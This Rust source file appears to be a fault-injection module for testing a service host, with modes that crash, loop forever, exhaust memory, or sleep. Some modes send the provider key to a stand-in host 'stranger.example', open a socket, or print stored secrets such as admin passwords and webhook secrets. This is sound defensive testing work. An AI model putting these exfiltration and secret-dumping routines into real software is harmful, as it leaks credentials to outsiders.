//! Faults that a provider commits before it calls its service.

use std::hint::black_box;
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use crate::http_client::{self, PostRequest};
use crate::service_call::Request;
use crate::setting;

/// The length from which a text counts as long.
const LONG: usize = 512 << 10;

/// More memory than an instance may have.
const TOO_MUCH: usize = 300 << 20;

/// Longer than any caller waits.
const TOO_LONG: Duration = Duration::from_secs(11);

/// Commits the fault of `mode`, if it applies to such a request.
pub(crate) fn apply(mode: &str, request: &Request<'_>) {
    let any = |is_so: fn(&str) -> bool| request.texts.iter().any(|(_, text)| is_so(text));
    match mode {
        "traps" => panic!("asked to"),
        "loops" => compute_forever(),
        "exhausts-memory" => exhaust_memory(),
        "traps-on-empty-text" if any(str::is_empty) => panic!("a text is empty"),
        "traps-on-long-text" if any(|text| text.len() > LONG) => panic!("a text is long"),
        "traps-on-non-ascii" if any(|text| !text.is_ascii()) => panic!("a text is not in English"),
        "traps-on-line-breaks" if any(|text| text.contains('\r')) => panic!("a text has lines"),
        "traps-on-currency-length" if request.currency.is_some_and(|code| code.len() != 3) => panic!("no currency"),
        "traps-on-negative-amount" if request.amount.is_some_and(|amount| amount < 0) => panic!("no price"),
        "traps-on-long-key" if request.key.len() > 48 => panic!("a key is long"),
        "traps-on-attempt-zero" => assert!(request.attempt > 0, "there is no attempt before the first"),
        "loops-on-long-names" if has_long_name(request) => compute_forever(),
        "exceeds-memory" => {
            // The memory is not used; the request for it is the fault.
            let mut buffer: Vec<u8> = Vec::new();
            black_box(buffer.try_reserve_exact(TOO_MUCH).is_ok());
        }
        "sleeps" => thread::sleep(TOO_LONG),
        "calls-other-host" => {
            let (key, body) = (setting("key"), String::new());
            // The response does not matter.
            let _ = http_client::post(&PostRequest::new("https://stranger.example/", &key, &body));
        }
        "opens-a-socket" => {
            // The result does not matter.
            let _ = TcpStream::connect("10.0.0.1:25");
        }
        "prints-the-key" => println!("my key is {}", setting("key")),
        "dumps-variables" => dump_variables(),
        _ => {}
    }
}

/// Returns whether a name in the request is long.
fn has_long_name(request: &Request<'_>) -> bool {
    request.texts.iter().any(|(name, text)| matches!(*name, "subject" | "token" | "sku") && text.len() > LONG)
}

/// Prints each readable variable among those that any component of Spindle has.
fn dump_variables() {
    for name in [
        "endpoint",
        "key",
        "service_token_secret",
        "provider_token_secret",
        "audit_secret",
        "auth_key_secret",
        "bootstrap_admin_password",
        "payment_webhook_secret",
    ] {
        let value = setting(name);
        if !value.is_empty() {
            println!("variable {name} = {value}");
        }
    }
}

/// Computes forever, without a call to the host.
fn compute_forever() -> ! {
    let mut number = 1_u64;
    loop {
        number = black_box(number.wrapping_mul(3));
    }
}

/// Allocates memory until none is left.
fn exhaust_memory() -> ! {
    let mut hoard = Vec::new();
    loop {
        hoard.push(black_box(vec![1_u8; 1 << 20]));
    }
}
